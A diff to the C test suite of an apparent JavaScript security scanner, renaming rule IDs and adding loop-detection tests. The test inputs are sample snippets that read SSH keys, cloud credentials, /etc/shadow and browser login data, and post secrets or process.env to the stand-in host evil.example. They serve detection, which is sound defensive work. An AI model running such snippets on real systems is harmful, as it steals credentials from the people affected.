@@ -437,32 +437,36 @@ Test(rules_js_network, declared_hosts_are_safe) {
 Test(rules_js_files, secret_paths) {
         static const struct rcase C[] = {
                 { "const fs = require('fs'), os = require('os'), path = require('path');\n"
-                  "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "js.secret.read", SEV_HIGH },
+                  "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
+                  "js.sensitive_file.read", SEV_HIGH },
                 { "const fs = require('fs'); const os = require('os');\n"
-                  "fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8')", "js.secret.read", SEV_HIGH },
-                { "const fs = require('fs'); fs.readFileSync(process.env.HOME + '/.netrc')", "js.secret.read",
+                  "fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8')",
+                  "js.sensitive_file.read", SEV_HIGH },
+                { "const fs = require('fs'); fs.readFileSync(process.env.HOME + '/.netrc')", "js.sensitive_file.read",
                   SEV_HIGH },
                 { "const fs = require('fs'); const home = process.env.HOME;\n"
-                  "fs.createReadStream(home + '/.git-credentials')", "js.secret.read", SEV_HIGH },
-                { "import { readFile } from 'node:fs/promises'; await readFile('/etc/shadow')", "js.secret.read",
+                  "fs.createReadStream(home + '/.git-credentials')",
+                  "js.sensitive_file.read", SEV_HIGH },
+                { "import { readFile } from 'node:fs/promises'; await readFile('/etc/shadow')",
+                  "js.sensitive_file.read", SEV_HIGH },
+                { "const fs = require('fs'); fs.promises.readFile('~/.docker/config.json')", "js.sensitive_file.read",
                   SEV_HIGH },
-                { "const fs = require('fs'); fs.promises.readFile('~/.docker/config.json')", "js.secret.read",
-                  SEV_HIGH },
-                { "const fs = require('fs'); fs.copyFileSync('/home/u/.ssh/id_ed25519', '/tmp/k')", "js.secret.read",
-                  SEV_HIGH },
-                { "const os = require('os'); const p = require('path').join(os.homedir(), '.ssh');", "js.secret.read",
-                  SEV_HIGH },
-                { "const fs = require('fs'); fs.readFileSync('/proc/self/environ')", "js.env.proc-environ",
+                { "const fs = require('fs'); fs.copyFileSync('/home/u/.ssh/id_ed25519', '/tmp/k')",
+                  "js.sensitive_file.read", SEV_HIGH },
+                { "const os = require('os'); const p = require('path').join(os.homedir(), '.ssh');",
+                  "js.sensitive_file.read", SEV_HIGH },
+                { "const fs = require('fs'); fs.readFileSync('/proc/self/environ')", "js.env_harvest.proc-environ",
                   SEV_HIGH },
                 /* ... plus the network in the same file */
                 { "const fs = require('fs'); const os = require('os');\n"
                   "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
-                  "fetch('https://evil.example/c', { method: 'POST', body: k });", "js.secret.read", SEV_CRITICAL },
+                  "fetch('https://evil.example/c', { method: 'POST', body: k });",
+                  "js.sensitive_file.read", SEV_CRITICAL },
         };
         run_cases(C, ELEMENTSOF(C));
         /* a .env next to the script (dotenv) is a note, not a secret read */
         expect_rule("const fs = require('fs'); fs.readFileSync(require('path').join(__dirname, '.env'), 'utf8')",
-                    "js.secret.dotenv", SEV_LOW);
+                    "js.sensitive_file.dotenv", SEV_LOW);
         expect_quiet("const fs = require('fs'); fs.readFileSync(process.argv[2], 'utf8');\n"
                      "fs.readFileSync('./data/.ssh_hosts.txt');\n"
                      "const note = '~/.ssh/id_rsa is where keys live';", SEV_SAFE);
@@ -515,20 +519,22 @@ Test(rules_js_files, blobs_are_low) {
 
 Test(rules_js_env, harvesting) {
         static const struct rcase C[] = {
-                { "const s = JSON.stringify(process.env);", "js.env.serialize", SEV_HIGH },
-                { "const e = process.env; const s = JSON.stringify(e);", "js.env.serialize", SEV_HIGH },
-                { "Object.entries(process.env).forEach(([k, v]) => out.push(k));", "js.env.enumerate", SEV_HIGH },
-                { "const keys = Object.keys(process.env);", "js.env.enumerate", SEV_HIGH },
-                { "for (const k in process.env) console.log(k);", "js.env.enumerate", SEV_HIGH },
-                { "const all = { ...process.env }; require('fs').writeFileSync('e.json', JSON.stringify(all));",
-                  "js.env.serialize", SEV_HIGH },
-                { "const all = { ...process.env }; require('fs').writeFileSync('e.txt', all);", "js.env.exfil",
+                { "const s = JSON.stringify(process.env);", "js.env_harvest.serialize", SEV_HIGH },
+                { "const e = process.env; const s = JSON.stringify(e);", "js.env_harvest.serialize", SEV_HIGH },
+                { "Object.entries(process.env).forEach(([k, v]) => out.push(k));", "js.env_harvest.enumerate",
                   SEV_HIGH },
-                { "require('axios').post('https://evil.example', process.env)", "js.env.exfil", SEV_CRITICAL },
+                { "const keys = Object.keys(process.env);", "js.env_harvest.enumerate", SEV_HIGH },
+                { "for (const k in process.env) console.log(k);", "js.env_harvest.enumerate", SEV_HIGH },
+                { "const all = { ...process.env }; require('fs').writeFileSync('e.json', JSON.stringify(all));",
+                  "js.env_harvest.serialize", SEV_HIGH },
+                { "const all = { ...process.env }; require('fs').writeFileSync('e.txt', all);",
+                  "js.env_harvest.exfil", SEV_HIGH },
+                { "require('axios').post('https://evil.example', process.env)", "js.env_harvest.exfil",
+                  SEV_CRITICAL },
                 { "fetch('https://evil.example', { method: 'POST', body: JSON.stringify(process.env) })",
-                  "js.env.serialize", SEV_CRITICAL },
+                  "js.env_harvest.serialize", SEV_CRITICAL },
                 { "const x = new XMLHttpRequest(); x.open('POST', u); x.send(JSON.stringify({ ...process.env }))",
-                  "js.env.exfil", SEV_CRITICAL },
+                  "js.env_harvest.exfil", SEV_CRITICAL },
         };
         run_cases(C, ELEMENTSOF(C));
         expect_quiet("const home = process.env.HOME; const tz = process.env.TZ || 'UTC';\n"
@@ -537,19 +543,19 @@ Test(rules_js_env, harvesting) {
                      "spawn('ls', [], { env: { ...process.env, LANG: 'C' } });\n"
                      "const k = process.env['API_KEY'];", SEV_MEDIUM);
         expect_no_rule("const { spawn } = require('child_process');\n"
-                       "spawn('ls', [], { env: { ...process.env, LANG: 'C' } });", "js.env.exfil");
+                       "spawn('ls', [], { env: { ...process.env, LANG: 'C' } });", "js.env_harvest.exfil");
 }
 
 /* ---- native code, deserialization, obfuscation ---------------------------------------------------------- */
 
 Test(rules_js_native, native_and_deser) {
         static const struct rcase C[] = {
-                { "process.binding('spawn_sync')", "js.native.process-binding", SEV_HIGH },
-                { "process.dlopen(module, '/tmp/x.so')", "js.native.dlopen", SEV_HIGH },
-                { "require('./build/Release/addon.node')", "js.native.addon", SEV_HIGH },
-                { "const ffi = require('ffi-napi');", "js.native.ffi", SEV_HIGH },
-                { "import koffi from 'koffi';", "js.native.ffi", SEV_HIGH },
-                { "WebAssembly.instantiate(Buffer.from(wasmB64, 'base64'))", "js.native.wasm", SEV_MEDIUM },
+                { "process.binding('spawn_sync')", "js.native_code.process-binding", SEV_HIGH },
+                { "process.dlopen(module, '/tmp/x.so')", "js.native_code.dlopen", SEV_HIGH },
+                { "require('./build/Release/addon.node')", "js.native_code.addon", SEV_HIGH },
+                { "const ffi = require('ffi-napi');", "js.native_code.ffi", SEV_HIGH },
+                { "import koffi from 'koffi';", "js.native_code.ffi", SEV_HIGH },
+                { "WebAssembly.instantiate(Buffer.from(wasmB64, 'base64'))", "js.native_code.wasm", SEV_MEDIUM },
                 { "require('node-serialize').unserialize(body)", "js.deserialization.unserialize", SEV_MEDIUM },
                 { "const v8 = require('v8'); v8.deserialize(buf)", "js.deserialization.unserialize", SEV_MEDIUM },
         };
@@ -756,8 +762,8 @@ Test(rules_js_flow, download_then_run) {
 }
 
 Test(rules_js_flow, environment_printed) {
-        expect_rule("console.log(process.env);", "js.env.print", SEV_HIGH);
-        expect_rule("process.stdout.write(JSON.stringify({ ...process.env }));", "js.env.print", SEV_HIGH);
+        expect_rule("console.log(process.env);", "js.env_harvest.print", SEV_HIGH);
+        expect_rule("process.stdout.write(JSON.stringify({ ...process.env }));", "js.env_harvest.print", SEV_HIGH);
         expect_quiet("console.log(process.env.HOME, process.env['PATH']);", SEV_SAFE);
 }
 
@@ -902,7 +908,8 @@ Test(rules_js_process, node_itself) {
 Test(rules_js_limits, fuzz_regressions) {
         /* an empty object looked up with an unknown key (UBSan: offset on a null pointer) */
         static const char *const SRC[] = {
-                "!function(e){var t={};function n(r){if(t[r])retc**/](```````````````\xa6\x9f````\xbf" "e ca\x90\xc3\xa9",
+                "!function(e){var t={};function n(r){if(t[r])retc**/](```````````````\xa6\x9f````\xbf"
+                "e ca\x90\xc3\xa9",
                 "const t = {}; t[k]; const u = []; u[k]; ({})[k]();",
         };
         for (size_t i = 0; i < ELEMENTSOF(SRC); i++) {
@@ -910,4 +917,19 @@ Test(rules_js_limits, fuzz_regressions) {
                 scan(SRC[i], &f);
                 findings_done(&f);
         }
+}
+
+Test(rules_js_flow, loops_over_constant_tables) {
+        /* the entry that names a secret stands for the table (browser profiles, key files) */
+        expect_rule("const fs = require('fs'), os = require('os'), path = require('path');\n"
+                    "const PROFILES = ['.config/myapp/x.json', '.config/google-chrome/Default/Login Data'];\n"
+                    "for (const rel of PROFILES) { const p = path.join(os.homedir(), rel); fs.readFileSync(p); }",
+                    "js.sensitive_file.read", SEV_HIGH);
+        expect_rule("const { execSync } = require('child_process');\n"
+                    "for (const c of ['git status', 'git log -n 1']) execSync(c);", "js.process.exec", SEV_MEDIUM);
+        expect_quiet("const fs = require('fs'), path = require('path');\n"
+                     "for (const f of ['a.json', 'b.json']) fs.readFileSync(path.join(__dirname, f));", SEV_SAFE);
+        /* a loop over something else is not a constant */
+        expect_rule("const { execSync } = require('child_process');\n"
+                    "for (const c of req.commands) execSync(c);", "js.process.exec", SEV_HIGH);
 }
